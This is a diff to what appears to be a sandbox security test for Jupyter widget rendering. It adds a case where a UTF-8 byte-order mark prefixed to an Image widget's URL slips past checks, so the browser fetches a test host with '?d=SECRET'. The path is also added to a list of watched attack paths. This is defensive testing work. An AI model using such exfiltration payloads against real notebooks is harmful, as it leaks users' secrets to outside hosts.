@@ -87,9 +87,11 @@ far = (HIT + "/dup-buffer?d=SECRET").encode()
 show(widget("ImageModel", "ImageView", {"format": "url"}, [["value"], ["value"]], [b"", far]))
 i = widget("ImageModel", "ImageView", {"format": "png"}, [["value"]], [b"PNG"]); show(i)
 update(i, {"_model_name": "LabelModel", "format": "url"}, [["value"]], [(HIT + "/renamed-image?d=SECRET").encode()])
+bom = b"\xef\xbb\xbf" + (HIT + "/bom-url?d=SECRET").encode()  # the browser's TextDecoder drops the mark
+show(widget("ImageModel", "ImageView", {"format": "url"}, [["value"]], [bom]))
 show(widget("HTMLModel", "HTMLView", {"value": "<b class='sbx-attacks-done'>done</b>"}))
 """
-ATTACK_PATHS = {"/rename", "/view-name", "/link", "/dup-buffer", "/renamed-image"}
+ATTACK_PATHS = {"/rename", "/view-name", "/link", "/dup-buffer", "/renamed-image", "/bom-url"}
 
 # The guest answers the frontend's request_states itself (after a page reload): the HTML widget's raw value at
 # the level ipywidgets nests it, and an Image URL given twice (the browser applies the last).
